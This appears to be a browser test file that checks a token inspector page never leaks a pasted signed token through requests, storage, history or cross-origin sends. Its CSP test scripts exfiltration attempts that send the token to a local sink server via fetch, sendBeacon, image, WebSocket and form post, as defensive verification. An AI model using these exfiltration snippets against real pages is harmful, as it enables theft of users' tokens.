// A token pasted into the inspector never leaves the page: no request made after loading
// (and no request at all) carries any part of it in its URL, headers or body; nothing is
// stored (Web Storage, cookies, IndexedDB, Cache Storage, service workers, the URL or
// history state); and the Content-Security-Policy blocks the ways a script could send it
// to another origin (fetch, beacon, image, WebSocket, form), which a second server on
// another port confirms by receiving nothing.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, before, test } from 'node:test';

import * as gt from '../../pkg/node.js';
import { startServer } from '../../scripts/serve.mjs';
import { launch } from './chromium.mjs';

const keys = await gt.generateSigningKeyPair();
const token = await gt.signToken(
  gt.createReplToken({ cluster: 'leaktest', metadata: { case: 'repl', value: { id: 'secret-repl-id-6d1f' } }, presenced: { bearerID: 7, bearerName: 'leak-bearer' } }),
  keys.secretKey,
  { cert: { case: 'keyId', value: 'leak:1' }, issuer: 'leak.example' }, { allowExpired: true },
);
const publicKey = Buffer.from(keys.publicKey).toString('base64url');
const [, , payload, footer] = token.split('.');
const parsed = gt.parseToken(token);
// Every form a part of the token could take on the way out.
const SECRETS = [
  token,
  payload,
  footer,
  payload.slice(0, 40),
  payload.slice(-40),
  parsed.messageBase64.slice(0, 40),
  encodeURIComponent(parsed.messageBase64).slice(0, 40),
  Buffer.from(parsed.signature).toString('base64url').slice(0, 40),
  Buffer.from(parsed.signature).toString('base64').slice(0, 40),
  Buffer.from(parsed.signature).toString('hex').slice(0, 40),
  'secret-repl-id-6d1f',
  'leak-bearer',
];

let server;
let sink;
let browser;
let context;
let page;
const requests = [];
const sinkHits = [];
let historyAtLoad;

before(async () => {
  server = await startServer({ port: 0 });
  // Another origin (another port) that records anything that reaches it.
  sink = createServer((req, res) => {
    sinkHits.push(`${req.method} ${req.url}`);
    req.resume();
    res.writeHead(204).end();
  });
  sink.on('upgrade', (req, socket) => {
    sinkHits.push(`upgrade ${req.url}`);
    socket.destroy();
  });
  await new Promise((r) => sink.listen(0, '127.0.0.1', r));
  browser = await launch();
  context = await browser.newContext();
  context.on('request', (r) => {
    requests.push({ url: r.url(), method: r.method(), headers: r.headers(), body: r.postData() ?? '', when: 'load' });
  });
  page = await context.newPage();
  page.setDefaultTimeout(5000);
  page.on('websocket', (ws) => requests.push({ url: ws.url(), method: 'WEBSOCKET', headers: {}, body: '' }));
  await page.goto(`${server.url}/`);
  await page.waitForSelector('html[data-ready="true"]');
  historyAtLoad = await page.evaluate(() => history.length);
});

after(async () => {
  await browser?.close();
  await server?.close();
  await new Promise((r) => sink?.close(r));
});

function assertNoSecrets(where, text) {
  for (const secret of SECRETS) assert.ok(!text.includes(secret), `${where} carries "${secret.slice(0, 24)}…"`);
}

test('pasting a token, and verifying it, makes no request at all', async () => {
  const before = requests.length;
  for (const text of [token, `wss://eval.global.replit.com/wsv2/${token}`, `  ${token}\n`]) {
    await page.fill('#inspect-public-key', publicKey);
    await page.fill('#token-input', text);
    await page.waitForSelector('#inspect-output [data-field="status"]');
    assert.equal(await page.textContent('#inspect-output [data-field="status"]'), 'Valid');
    await page.fill('#inspect-public-key', '');
    await page.waitForFunction(() => document.querySelector('#inspect-output')?.textContent.includes('leaktest'));
  }
  // Give anything asynchronous (timers, idle callbacks) the time to go out.
  await page.waitForTimeout(1000);
  assert.deepEqual(requests.slice(before).map((r) => r.url), []);
  // And the requests that loaded the page carried nothing either (the token came later).
  assert.ok(requests.length > 0);
  for (const r of requests) {
    assert.equal(new URL(r.url).origin, server.url, r.url);
    assertNoSecrets(`request ${r.method} ${r.url}`, `${r.url}\n${JSON.stringify(r.headers)}\n${r.body}`);
  }
  assert.deepEqual(sinkHits, []);
});

test('nothing is stored: Web Storage, cookies, IndexedDB, Cache Storage, service workers, URL, history', async () => {
  const stored = await page.evaluate(async () => ({
    local: JSON.stringify({ ...localStorage }),
    session: JSON.stringify({ ...sessionStorage }),
    cookie: document.cookie,
    indexedDB: JSON.stringify(await indexedDB.databases()),
    caches: JSON.stringify(await caches.keys()),
    serviceWorkers: (await navigator.serviceWorker?.getRegistrations())?.length ?? 0,
    url: location.href,
    history: JSON.stringify(history.state),
    historyLength: history.length,
    name: window.name,
  }));
  assert.equal(stored.local, '{}');
  assert.equal(stored.session, '{}');
  assert.equal(stored.cookie, '');
  assert.equal(stored.indexedDB, '[]');
  assert.equal(stored.caches, '[]');
  assert.equal(stored.serviceWorkers, 0);
  assert.equal(stored.url, `${server.url}/`);
  assert.equal(stored.historyLength, historyAtLoad, 'no history entries were added');
  assertNoSecrets('stored state', JSON.stringify(stored));
  const cookies = await context.cookies();
  assert.deepEqual(cookies, []);
  const state = await context.storageState();
  assertNoSecrets('storage state', JSON.stringify(state));
});

test('the CSP stops a script from sending the token to another origin', async () => {
  const target = `http://127.0.0.1:${sink.address().port}`;
  const results = await page.evaluate(
    async ({ target, token }) => {
      const events = [];
      document.addEventListener('securitypolicyviolation', (e) => events.push(e.violatedDirective));
      const out = {};
      try {
        await fetch(`${target}/fetch?t=${token}`, { method: 'POST', body: token, mode: 'no-cors' });
        out.fetch = 'sent';
      } catch (e) {
        out.fetch = `blocked: ${e.name}`;
      }
      out.beacon = navigator.sendBeacon(`${target}/beacon`, token) ? 'queued' : 'refused';
      await new Promise((resolve) => {
        const img = new Image();
        img.onload = () => resolve((out.image = 'loaded'));
        img.onerror = () => resolve((out.image = 'blocked'));
        img.src = `${target}/img?t=${token}`;
      });
      try {
        const ws = new WebSocket(`${target.replace('http', 'ws')}/ws?t=${token}`);
        await new Promise((resolve) => {
          ws.onopen = () => resolve((out.websocket = 'open'));
          ws.onerror = () => resolve((out.websocket = 'blocked'));
        });
      } catch (e) {
        out.websocket = `blocked: ${e.name}`;
      }
      const form = document.createElement('form');
      form.method = 'POST';
      form.action = `${target}/form`;
      form.target = '_blank';
      document.body.append(form);
      form.submit();
      form.remove();
      await new Promise((r) => setTimeout(r, 300));
      out.violations = [...new Set(events)].sort();
      return out;
    },
    { target, token },
  );
  await page.waitForTimeout(500);
  assert.match(results.fetch, /^blocked/);
  assert.equal(results.image, 'blocked');
  assert.match(results.websocket, /^blocked/);
  assert.ok(results.violations.includes('connect-src'), JSON.stringify(results));
  assert.ok(results.violations.includes('img-src'), JSON.stringify(results));
  assert.deepEqual(sinkHits, [], `the other origin received: ${sinkHits.join(', ')}`);
  // The attempts above were the only requests to leave the page's origin, and none landed.
  for (const r of requests) {
    if (new URL(r.url).origin !== server.url) assert.ok(r.url.startsWith(target) || r.url.startsWith(target.replace('http', 'ws')), r.url);
  }
});
